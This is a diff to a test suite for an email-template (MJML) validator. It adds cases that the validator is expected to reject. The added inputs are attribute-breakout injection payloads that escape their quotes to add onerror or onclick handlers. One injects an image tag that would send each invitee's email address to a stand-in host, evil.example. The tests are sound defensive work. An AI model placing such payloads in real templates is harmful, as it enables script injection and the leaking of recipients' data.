@@ -135,6 +135,16 @@ describe("a template that cannot be used", () => {
     ["MJML that does not close", { body: body(`<mj-text>x${button}`).replace("</mj-column>", "") }, /^Line \d+: /],
     ["no MJML", { body: "<p>{{ url }}</p>" }, /^Line 1: /],
     ["a script", { body: body(`<mj-text><script>1</script></mj-text>${button}`) }, /Line 2: <script> is not allowed/],
+    ...[
+      `<mj-image src="https://acme.example/x.png" alt='" onerror="x()' />`,
+      `<mj-image src="https://acme.example/x.png" alt='"><img src="http://evil.example/{{ invitee.email }}"><b title="' />`,
+      `<mj-image src="https://acme.example/x.png" alt=x"onerror="x() />`,
+      `<mj-button href="{{ url }}" css-class='x" onclick="x()'>Open</mj-button>`,
+    ].map((element, index): [string, object, RegExp] => [
+      `an attribute that ends its quotes, ${index}`,
+      { body: body(`${element}${button}`) },
+      /^Line 2: (<mj-\w+> [\w-]+ holds a quote|A quote in <mj-image> stands around no value)/,
+    ]),
     ["a script in mj-raw", { body: body(`<mj-raw><b>1</b></mj-raw>${button}`) }, /may hold Liquid tags alone/],
     ["a handler", { body: body(`<mj-text><b onclick="x()">1</b></mj-text>${button}`) }, /The attribute onclick is not allowed/],
     [
